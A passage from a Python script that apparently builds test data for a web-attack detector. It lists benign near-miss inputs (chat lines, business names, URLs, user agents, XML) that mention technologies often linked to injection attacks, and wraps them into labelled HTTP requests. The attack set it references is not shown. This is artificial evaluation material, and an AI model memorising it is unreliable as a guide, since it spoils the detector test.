    "Runtime of the nightly job dropped to 12 minutes after the index change",
    "we bumped log4j to 2.17.2 on every service, jndi lookups are off",
    "Spring Boot 3.2 upgrade is merged, actuator is only on the management port",
    "class loader leak in Tomcat again after hot redeploy, restarting the pod",
    "Jackson default typing stays disabled, please don't turn it on for the webhook DTOs",
    "the Struts app is finally retired, RIP 2009-2024",
    "serialization of the session objects broke when we renamed the package",
    "java.lang.OutOfMemoryError in the report worker, heap is 512m, let's give it 1g",
    "has anyone used Thymeleaf fragments with layout dialect? the header duplicates",
    "FreeMarker templates for the invoice emails live in resources/templates",
    "the Velocity migration to Pebble is done for the notifications",
    "WebLogic license renewal is due in March, procurement knows",
    "Jenkins pipeline is green again, the Groovy sandbox approval was missing",
    "we use commons-collections 4.4 now, the old 3.2.1 jar is gone",
    "Base64 of a serialized Java object starts with rO0, fun fact from the security training",
    # Node, JS
    "Node 20 LTS is rolled out; child processes now go through execa",
    "process.env is read once at startup in config.ts, restart after changing it",
    "use require('express') and require('helmet'), the fs module isn't needed there",
    "setTimeout with a function, never a string, it's in the review checklist",
    "the constructor in that class wires up the prototype chain, see chapter 6",
    "prototype pollution talk at the meetup was great, slides in the drive",
    "Handlebars partials are registered in views/partials, the {{> header}} one is shared",
    "pug indentation errors again, two spaces please",
    "EJS is fine for the admin mails, nunjucks for the public site",
    "the while loop in the retry helper needs a max attempts guard",
    "infinite scroll on the feed is back, the for loop bug is fixed",
    "Math.random is not crypto safe, use crypto.randomUUID for tokens",
    # Python, Ruby, Perl, PHP
    "Flask's render_template is fine, just never build templates from user text",
    "jinja2 3.1 changed the autoescape default for .txt files, heads up",
    "our Django settings module moved to config/settings/prod.py",
    "Mako is only in the legacy reporting app; Tornado serves the websocket gateway",
    "Rails 7.1 upgrade: the ERB views compile fine, one deprecation left",
    "Ruby 3.3 YJIT gives us 15% on the API, nice",
    "the Perl cron that emails the CSV is still alive somehow",
    "open a PR against the WordPress theme for the footer links",
    "Laravel queue workers need a restart after deploys, added to the runbook",
    "Drupal 10 migration planning on Thursday at 14:00",
    "Smarty is in the old shop frontend only, don't add new templates there",
    "Twig's dump() is disabled in prod, use the profiler locally",
    # cloud, networking
    "the metadata service credentials rotate hourly, no need to cache them",
    "IMDSv2 is enforced on all EC2 instances now, hop limit 1",
    "the GCP service account for CI has only storage.objectViewer",
    "localhost:3000 is the dev server, 8080 the API, 5432 postgres",
    "the office printer is at 192.168.1.40 if anyone needs it",
    "the VPN hands out 10.8.0.x addresses, ping me if you get none",
    "Azure subscription costs went down 12% after the reserved instances",
    "data: URLs for the small icons are inlined by webpack",
    "gopher, the Go mascot stickers arrived!",
    "Go templates: remember {{ .Title }} needs the dot",
    "Razor pages in the .NET admin still use @Model.Name everywhere",
    # everyday chat
    "lunch at 12:30? the thai place on Java Street",
    "Ruby's birthday cake is in the kitchen",
    "Perl Jam cover band plays Friday, tickets $15",
    "the class photo from the offsite is on the drive",
    "process for expense reports changed, use the new form",
    "please file the ticket before the system test window",
    "the template for the quarterly review is in Confluence",
    "reminder: exec meeting moved to 3pm",
    "our thyme plants in the office garden are thriving",
    "the Velocity conference talk on web performance was recorded",
    "Jade and Pug are the names of the office cats, don't ask",
    "new hire onboarding: Handlebars Coffee at 9 for everyone",
    "I'll be out Friday, Marcus covers on-call",
    "who broke the coffee machine's runtime? it needs a reboot :)",
    "shipping label template printed at 4x6 now",
    "Loading... spinner stays forever on Safari, investigating",
    "the proto for the new mobile design is in Figma",
    "ERB stands for Employee Review Board in HR docs, different thing",
    "the Smarty Pants bookshop sponsors our reading club",
    "our river cruise is on the Twig and Mako line, 10am",
]
PROFILES = [
    ("Ruby Jackson", "12 Java Street, Springfield"), ("Perl Nakamura", "4 Runtime Road, Leeds"),
    ("Jade Pug", "Velocity House, 1 Process Lane"), ("Thymeleaf Bistro", "Groovy Avenue 9, Austin"),
    ("Tornado Roofing LLC", "88 Template Way, Tulsa"), ("Handlebar Barbers", "Jinja Street 3, Kyoto"),
    ("Mako Surf School", "1 Ocean Drive, Gold Coast"), ("Erb Family Farm", "Route 9, Lancaster PA"),
    ("Nunjucks Nursery", "Chapel Road 7, Bristol"), ("Django Reinhardt Trio", "Rue de Jazz 5, Paris"),
    ("Smarty Pants Tutoring", "22 Class Street, Dublin"), ("Razor Sharp Design", "Meta Data Park, Cork"),
    ("Twig & Leaf Florist", "5 Constructor Row, York"), ("Freemarker Gallery", "Prototype Plaza 2, Oslo"),
    ("Go Green Cleaning", "169 Main St, Boise"), ("Log Cabin Supplies", "4 Loader Lane, Aspen"),
    ("Class Act Theatre", "Spawn Street 12, Perth"), ("Serial Box Cafe", "Magic Lane 4, Bath"),
    ("Process Engineering Ltd", "Unit 10, Exec Park, Reading"), ("Pearl Ruby Jewellers", "8 Gem Road, Derby"),
    ("Groovy Guitars", "17 Rock Street, Memphis"), ("Java Joe's Coffee", "Bean Street 1, Seattle"),
    ("Velocity Partners", "Speedway 40, Indianapolis"), ("Kernel Popcorn Co.", "Corn Row 3, Omaha"),
    ("Jenkins & Sons Plumbing", "2 Pipe Street, Cardiff"), ("Tomcat Rescue Shelter", "Whisker Way 6, Hull"),
    ("Struts Dance Studio", "11 Step Road, Leeds"), ("Spring Meadow Farm", "Valley Road, Boulder"),
    ("Express Couriers", "Depot 4, Heathrow"), ("Liquid Assets Finance", "Bank Street 2, London"),
]
SEARCHES = [
    "ruby", "java developer", "perl", "node", "process engineer", "runtime", "template", "class of 2019",
    "constructor", "prototype", "metadata", "169 main st", "10.0 release", "data scientist", "jinja", "pug",
    "serial number", "magic", "loader", "exec assistant", "spring hires", "struts", "tomcat", "handlebars",
    "O'Reilly", "smith & wesson", "c# developer", ".net", "go developer", "velocity",
]
URLS = [
    "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/lang/ProcessBuilder.html",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://logging.apache.org/log4j/2.x/manual/lookups.html",
    "https://nodejs.org/api/child_process.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Inheritance_and_the_prototype_chain",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/filters/map.html",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://handlebarsjs.com/guide/builtin-helpers.html",
    "https://pugjs.org/language/interpolation.html",
    "https://ruby-doc.org/3.3/Kernel.html",
    "https://perldoc.perl.org/functions/open",
    "https://www.php.net/manual/en/wrappers.data.php",
    "https://pkg.go.dev/text/template",
    "https://github.com/acme/billing/blob/main/src/main/java/com/acme/Invoice.java",
    "https://example.com/files/templates/welcome-email.html",
    "https://cdn.example.org/js/app.js?v=2.4.1",
    "https://8.8.8.8/",
    "https://1.1.1.1/dns-query",
    "https://www.example.co.uk/products?id=127&sort=price",
    "https://hooks.slack.com/services/T061EG9R6/B0ABCDEF/abc123",
    "https://en.wikipedia.org/wiki/Java_(programming_language)",
    "https://en.wikipedia.org/wiki/Ruby_(gemstone)",
    "https://blog.example.com/2024/06/10/spring-boot-3-upgrade",
    "https://status.example.net/incidents/2024-07-01",
    "https://maps.example.com/?q=Java+Street+12&z=15",
]
PROSE = [
    "Runtime exceeded the estimate; process owners to review",
    "The class was asked to name a new prototype for the fair",
    "Our exec team met the Java user group on Thursday",
    "Constructor Ltd., 10 Prototype Lane, invoice attached",
    "Dear customer, your ${amount} invoice is ready",
    "Template letters for renewals are in the shared folder",
    "Please load the class schedule before Monday",
    "Serial numbers are printed on the back of the unit",
    "The magic number for the campaign is 42",
    "Ruby and Perl will host the spring social",
    "Velocity of the team went up this sprint",
    "Metadata for the photos was stripped before upload",
]
UAS = [
    "Java/17.0.9", "Apache-HttpClient/4.5.14 (Java/11.0.21)", "okhttp/4.12.0", "python-requests/2.31.0",
    "Go-http-client/2.0", "curl/8.5.0", "Ruby", "axios/1.6.7",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "PostmanRuntime/7.39.0", "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240605.024)",
]
REFERERS = [
    "https://www.google.com/search?q=java+runtime+download",
    "https://app.example.com/templates?page=2",
    "https://www.example.org/blog/prototype-design-tips",
    "https://intranet.example.com/process/onboarding",
    "https://github.com/acme/api/pull/1234",
    "https://duckduckgo.com/?q=ruby+on+rails+jobs",
]
UPLOADS = [
    "resume.pdf", "JavaScript-Notes.pdf", "process-diagram.png", "invoice-template.docx", "users.csv",
    "Java Basics (chapter 3).pdf", "photo_2024-06-01.jpg", "jsp-migration-plan.xlsx", "ruby.png", "config.yaml.txt",
]
XML_BENIGN = [
    "<?xml version=\"1.0\"?><user><name>Ruby Jackson</name><note>Java Street 12</note></user>",
    "<?xml version=\"1.0\"?><order><id>17</id><item>Process manual</item><qty>2</qty></order>",
    "<?xml version=\"1.0\"?><user><name>Ann</name><bio>I write templates and runtimes for a living</bio></user>",
    "<?xml version=\"1.0\"?><note><to>Perl</to><body>class starts at 10.30 in room 127</body></note>",
    "<?xml version=\"1.0\"?><feed><entry><title>Spring release notes</title></entry></feed>",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from numbered((_req("GET", "/api/users?" + urllib.parse.urlencode({"q": t, "page": "1"}))
                             for t in CHAT), f"{NAME}-search", n, "query")
    n = yield from numbered((prose_request(t) for t in CHAT + PROSE), f"{NAME}-prose", n, "form")
    n = yield from numbered((_req("POST", "/api/users", json.dumps({"name": nm, "address": addr, "bio": addr}),
                                  _headers(ctype="application/json")) for nm, addr in PROFILES),
                            f"{NAME}-profile", n, "json")
    n = yield from numbered((_req("GET", "/api/users?" + urllib.parse.urlencode({"q": nm}))
                             for nm, _ in PROFILES), f"{NAME}-name", n, "query")
    n = yield from numbered((_req("GET", "/api/users?" + urllib.parse.urlencode({"q": s, "sort": "name"}))
                             for s in SEARCHES), f"{NAME}-search", n, "query")
    n = yield from numbered((rec for url in URLS for rec in link_requests(url)), f"{NAME}-url", n, "mixed")
    n = yield from numbered((_req("GET", "/api/users?page=1", headers=_headers({"User-Agent": ua}))
                             for ua in UAS), f"{NAME}-ua", n, "header")
    n = yield from numbered((_req("GET", "/api/users?page=2", headers=_headers({"Referer": r}))
                             for r in REFERERS), f"{NAME}-referer", n, "header")
    uploads = (_multipart([("csrf_token", "t0k3n"), ("note", "weekly import")], ("attachment", f, "name\nann\n"))
               for f in UPLOADS)
    n = yield from numbered((_req("POST", "/admin/users/import", body, _headers(ctype=ctype))
                             for body, ctype in uploads), f"{NAME}-upload", n, "multipart")
    n = yield from numbered((_req("POST", "/api/users", x, _headers(ctype="application/xml")) for x in XML_BENIGN),
                            f"{NAME}-xml", n, "xml")
    cookies = [f"{s}; theme=dark; lang=en-GB" for s, _ in COOKIES.values()]
    n = yield from numbered((_req("GET", "/api/users?page=1", headers=_headers({"Cookie": c})) for c in cookies),
                            f"{NAME}-cookie", n, "cookie")
    n = yield from numbered((_req("POST", "/api/users/42", json.dumps({"comment": t, "visibility": "team"}),
                                  _headers(ctype="application/json")) for t in CHAT + PROSE),
                            f"{NAME}-comment", n, "json")
    n = yield from numbered((prose_request(t) for t in SEARCHES + [nm for nm, _ in PROFILES]),
                            f"{NAME}-prose", n, "form")
    rs_texts = CHAT + SEARCHES
    rs = (_req("GET", f"{RS_PATHS[i % len(RS_PATHS)]}?{RS_NAMES[i % len(RS_NAMES)]}=" + urllib.parse.quote(t))
          for i, t in enumerate(rs_texts))
    n = yield from numbered(rs, f"{NAME}-rs", n, "rs-query")
    rs_urls = (_req("POST", "/post", urllib.parse.urlencode({"url": u, "id": "7"}),
                    _headers(ctype="application/x-www-form-urlencoded")) for u in URLS)
    yield from numbered(rs_urls, f"{NAME}-rs", n, "rs-form")

if __name__ == "__main__":
    print_records(attacks(), benign())
